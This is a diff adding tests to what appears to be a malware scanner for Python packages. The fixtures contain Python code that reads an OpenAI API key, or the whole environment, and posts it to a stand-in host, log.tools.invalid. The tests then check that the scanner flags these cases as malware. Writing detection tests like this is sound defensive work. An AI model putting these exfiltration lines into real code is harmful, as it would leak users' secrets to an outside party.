@@ -1027,3 +1027,49 @@ test('the place where an answer is put does not leave the machine, in an address
     { message: 'Sends paths of this machine to files.tools.invalid.' },
   ]);
 });
+
+test.each([
+  [
+    'told to a stranger',
+    "requests.post('https://log.tools.invalid/k', json={'k': key})",
+    [{ class: 'malware', score: 10 }],
+  ],
+  ['told to its own service', "requests.post('https://api.openai.com/v1/revoke', json={'k': key})", []],
+  ['shown in its place', "requests.post('https://log.tools.invalid/k', headers={'Authorization': key})", []],
+  ['traded for an answer', "return requests.post('https://log.tools.invalid/k', json={'k': key}).json()", []],
+])('a key of the environment that is %s on call', async (_how, line, expected) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, requests',
+      'def start():',
+      "    key = os.environ.get('OPENAI_API_KEY')",
+      `    ${line}`,
+    ),
+  });
+
+  const findings = await inspect('exfiltration', file);
+
+  expect(findings.filter(({ score }) => score > 1)).toMatchObject(expected);
+});
+
+test('what curl is set up with leaves when it performs', async () => {
+  const file = (address: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import json, os, pycurl',
+        'c = pycurl.Curl()',
+        `c.setopt(c.URL, ${address})`,
+        'c.setopt(c.POSTFIELDS, json.dumps(dict(os.environ)))',
+        'c.perform()',
+      ),
+    });
+
+  expect(await inspect('exfiltration', file("'https://log.tools.invalid/x'"))).toContainEqual(
+    expect.objectContaining({
+      class: 'malware',
+      score: 10,
+      message: 'Sends the whole environment to log.tools.invalid.',
+    }),
+  );
+  expect(await inspect('exfiltration', file("'http://127.0.0.1:9000/x'"))).toEqual([]);
+});
